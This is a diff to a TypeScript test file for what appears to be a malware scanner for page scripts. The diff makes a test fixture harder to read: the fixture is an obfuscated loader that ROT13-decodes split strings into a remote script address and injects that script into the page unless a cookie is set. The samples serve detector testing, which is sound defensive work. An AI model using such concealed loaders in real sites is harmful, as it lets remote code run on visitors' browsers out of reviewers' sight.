@@ -17,9 +17,9 @@ function summaryOf(source: string): Readonly<Record<string, number>> {
   )
 }
 
-/** Loads a script whose host is hidden, unless a cookie is set. */
+/** Loads a script whose host is hidden, unless a cookie is set. Its other strings are put together, too. */
 const hiddenHost = (sets: string): string =>
-  `(function(){function r(s){return s.replace(/[a-z]/gi,function(c){return String.fromCharCode(c.charCodeAt(0)+(c.toLowerCase()<'n'?13:-13))})}var i=['uggc:','//jvqt','rgybnq','re.pbz/n.wf'];for(var k=0;k<i.length;k++)i[k]=r(i[k]);if(!document.cookie.match(/seen=1/)){var s=document.createElement('script');s.src=i[0]+i[1]+i[2]+i[3];document.head.appendChild(s);${sets}}})()`
+  `(function(){function r(s){return s.replace(/[a-z]/gi,function(c){return String.fromCharCode(c.charCodeAt(0)+(c.toLowerCase()<'n'?13:-13))})}var i=['ugg','c:/','/jv','qtr','gyb','nqr','e.p','bz/','n.w','f','fpe','vcg','grk','g/w','fr','ra'];for(var k=0;k<i.length;k++)i[k]=r(i[k]);var g=i[14]+i[15];if(!document.cookie.match(g)){var s=document.createElement(i[10]+i[11]);s.type=i[12]+i[13];s.src=i[0]+i[1]+i[2]+i[3]+i[4]+i[5]+i[6]+i[7]+i[8]+i[9];document.head.appendChild(s);${sets}}})()`
 
 test.each<[name: string, source: string, expected: Readonly<Record<string, number>>]>([
   ['nothing', `document.title='a'`, {}],
@@ -36,14 +36,14 @@ test.each<[name: string, source: string, expected: Readonly<Record<string, numbe
   [
     'a script of a hidden host, once for each visitor',
     hiddenHost(
-      `var d=new Date();d.setTime(d.getTime()+2592e5);document.cookie='seen=1; expires='+d.toUTCString()`,
+      `var d=new Date();d.setTime(d.getTime()+2592e5);document.cookie=g+'=1; expires='+d.toUTCString()`,
     ),
     { 'findings of malware': 1, findings: 0.25 },
   ],
   [
     'a script of a hidden host, until the visitor has made a choice',
     hiddenHost(
-      `document.querySelector('#no').onclick=function(){document.cookie='seen=1; expires='+new Date()}`,
+      `document.querySelector('#no').onclick=function(){document.cookie=g+'=1; expires='+new Date()}`,
     ),
     {},
   ],
